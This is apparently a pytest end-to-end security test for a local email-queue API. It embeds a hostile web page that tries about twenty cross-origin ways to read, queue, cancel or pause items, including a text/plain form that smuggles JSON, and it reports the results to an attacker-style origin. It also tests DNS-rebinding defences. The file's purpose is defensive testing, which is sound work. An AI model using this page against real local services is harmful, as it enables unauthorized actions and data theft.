"""A page in a real browser on this computer, on another origin, reads and changes nothing of the local API.

The page is given everything an attacker could wish for: the port, a valid token and the ids.
"""

from __future__ import annotations

import json
import sys
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.browser import REPORT_SECONDS, EvilWeb, OpenServer, Rebinding, chromium, visiting
from tests.e2e.serving import Serving, served
from tests.e2e.world import World

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="drives Debian's Chromium")
NAME = "Prof. Ilse Varnholt"
TEMPLATE = "Dear {{ name }},\n\nI think about {{ interest }} a lot.\n\nMaya Lindqvist\n"

PAGE = """<!doctype html><meta charset="utf-8"><title>A harmless page</title><body><script>
const { bases, token, id, batch, reportTo } = CONFIG;
const bearer = { Authorization: `Bearer ${token}` };
const outcomes = {};

async function attempt(name, work) {
  const late = new Promise((done) => setTimeout(() => done({ refused: "no answer" }), 5000));
  try {
    outcomes[name] = await Promise.race([work(), late]);
  } catch (error) {
    outcomes[name] = { refused: String(error) };
  }
}

async function asked(url, options) {
  const answer = await fetch(url, options);
  return { type: answer.type, status: answer.status, text: await answer.text() };
}

function asXhr(url) {
  return new Promise((done, refuse) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.onload = () => done({ status: request.status, text: request.responseText });
    request.onerror = () => refuse(new Error("refused"));
    request.send();
  });
}

function asEvents(url) {
  return new Promise((done, refuse) => {
    const events = new EventSource(url);
    events.onmessage = (event) => done({ text: event.data });
    events.onerror = () => { events.close(); refuse(new Error("refused")); };
  });
}

function asScript(url) {
  return new Promise((done, refuse) => {
    const script = document.createElement("script");
    script.src = url;
    script.onload = () => done({ type: "loaded", text: "" });
    script.onerror = () => refuse(new Error("refused"));
    document.body.append(script);
  });
}

function inFrame(load) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${Math.random()}`;
    document.body.append(frame);
    frame.onload = () => {
      try {
        done({ type: "frame", text: frame.contentDocument.body.innerText });
      } catch (error) {
        done({ type: "frame", refused: String(error) });
      }
    };
    load(frame);
  });
}

function asForm(url, enctype, fields) {
  return inFrame((frame) => {
    const form = document.createElement("form");
    Object.assign(form, { action: url, method: "post", enctype, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, { type: "hidden", name, value });
      form.append(input);
    }
    document.body.append(form);
    form.submit();
  });
}

async function attack(base) {
  const list = `${base}/api/queue/`, post = `${base}/api/queue/batch`;
  const json = { "Content-Type": "application/json" };
  const write = (headers, body) => ({ method: "POST", headers, body });
  const halves = JSON.stringify(batch).slice(0, -1) + ',"more":"';
  await Promise.all([
    attempt(`${base} read`, () => asked(list)),
    attempt(`${base} read with the token`, () => asked(list, { headers: bearer })),
    attempt(`${base} read without cors`, () => asked(list, { mode: "no-cors" })),
    attempt(`${base} read health`, () => asked(`${base}/health`)),
    attempt(`${base} read by XMLHttpRequest`, () => asXhr(list)),
    attempt(`${base} read by EventSource`, () => asEvents(`${base}/api/queue/events`)),
    attempt(`${base} read as a script`, () => asScript(list)),
    attempt(`${base} read in a frame`, () => inFrame((frame) => { frame.src = list; })),
    attempt(`${base} read health in a frame`, () => inFrame((frame) => { frame.src = `${base}/health`; })),
    attempt(`${base} queue`, () => asked(post, write({ ...bearer, ...json }, JSON.stringify(batch)))),
    attempt(`${base} queue as text`, () => asked(post, { ...write(bearer, JSON.stringify(batch)) })),
    attempt(`${base} queue without cors`, () => asked(post, { ...write({}, JSON.stringify(batch)), mode: "no-cors" })),
    attempt(`${base} cancel`, () => asked(`${list}${id}`, { method: "DELETE", headers: bearer })),
    attempt(`${base} pause`, () => asked(`${base}/api/queue/pause`, write(bearer))),
    attempt(`${base} pause without cors`, () => asked(`${base}/api/queue/pause`, { method: "POST", mode: "no-cors" })),
    attempt(`${base} pause by beacon`, async () => ({ sent: navigator.sendBeacon(`${base}/api/queue/pause`) })),
    attempt(`${base} queue by a text form`, () => asForm(post, "text/plain", { [halves]: '"}' })),
    attempt(`${base} queue by a form`, () => asForm(post, "application/x-www-form-urlencoded", { items: "[]" })),
    attempt(`${base} queue by a file form`, () => asForm(post, "multipart/form-data", { items: "[]" })),
    attempt(`${base} pause by a form`, () => asForm(`${base}/api/queue/pause`, "text/plain", {})),
  ]);
}

(async () => {
  await attempt("its own page", () => asked("/"));
  for (const base of bases) await attack(base);
  await fetch(`${reportTo}/report`, { method: "POST", mode: "no-cors", body: JSON.stringify(outcomes) });
})();
</script>"""
WAYS = 20


def page(config: dict[str, Any]) -> str:
    return PAGE.replace("CONFIG", json.dumps(config))


@pytest.fixture
def serving(tmp_path: Path) -> Iterator[Serving]:
    """The API with one item that waits."""
    chromium()
    with World(tmp_path) as world, served(world, "--no-worker") as one:
        one.post_batch(NAME, template=TEMPLATE)
        yield one


def known(serving: Serving, bases: list[str], report_to: str) -> dict[str, Any]:
    """What the attacker knows."""
    return {
        "bases": bases,
        "token": serving.token,
        "id": serving.queue()[0]["id"],
        "batch": {
            "items": [{"recipient_name": "Eve Mallory", "recipient_interest": "x y"}],
            "email_template": TEMPLATE,
        },
        "reportTo": report_to,
    }


def state(serving: Serving) -> tuple[Any, Any]:
    """All that an attack could change."""
    return serving.queue(), serving.client.get("/api/queue/summary").json()


def test_a_page_on_another_origin_reads_and_changes_nothing(serving: Serving, tmp_path: Path) -> None:
    before = state(serving)
    with EvilWeb("") as web:
        bases = [f"http://{host}:{serving.port}" for host in ("127.0.0.1", "localhost")]
        web.page = page(known(serving, bases, web.origin)).encode()
        with visiting(web.origin, tmp_path):
            outcomes = web.reports.get(timeout=REPORT_SECONDS)
    assert "A harmless page" in outcomes.pop("its own page")["text"]
    assert len(outcomes) == len(bases) * WAYS
    assert looked_into(outcomes) == {}
    assert state(serving) == before


def test_the_same_page_reads_and_changes_a_server_without_guards(tmp_path: Path) -> None:
    """Shows that it is the API that keeps the page out, and not the browser or a mistake in the page."""
    with EvilWeb("") as web, OpenServer() as server:
        config = {"bases": [server.url], "token": "t", "id": "1", "batch": {"items": []}, "reportTo": web.origin}
        web.page = page(config).encode()
        with visiting(web.origin, tmp_path):
            outcomes = web.reports.get(timeout=REPORT_SECONDS)
    del outcomes["its own page"]
    assert len(looked_into(outcomes)) == 9
    requests = Counter(server.requests)
    assert requests["POST", "/api/queue/batch"] == 6
    assert requests["POST", "/api/queue/pause"] == 4
    assert requests["DELETE", "/api/queue/1"] == 1


def looked_into(outcomes: dict[str, Any]) -> dict[str, Any]:
    """The attempts whose answer the page could read."""
    return {name: one for name, one in outcomes.items() if one.get("text") or one.get("status")}


def test_a_name_that_is_bound_to_this_computer_reads_and_changes_nothing(serving: Serving, tmp_path: Path) -> None:
    before = state(serving)
    with EvilWeb("") as web:
        config = known(serving, [""], web.origin)
        with Rebinding(page(config), serving.port) as rebinding, visiting(rebinding.origin, tmp_path):
            outcomes = web.reports.get(timeout=REPORT_SECONDS)
    assert "A harmless page" in outcomes.pop("its own page")["text"]
    assert len(outcomes) == WAYS
    assert rebinding.handed_on > 0
    # Same origin for the browser, so the page reads whatever comes back: that the API does not go by that name.
    statuses = {name: one["status"] for name, one in outcomes.items() if "status" in one}
    assert set(statuses.values()) == {421}, statuses
    assert len(statuses) >= 10
    told = json.dumps(outcomes)
    assert NAME not in told
    assert "version" not in told
    assert state(serving) == before
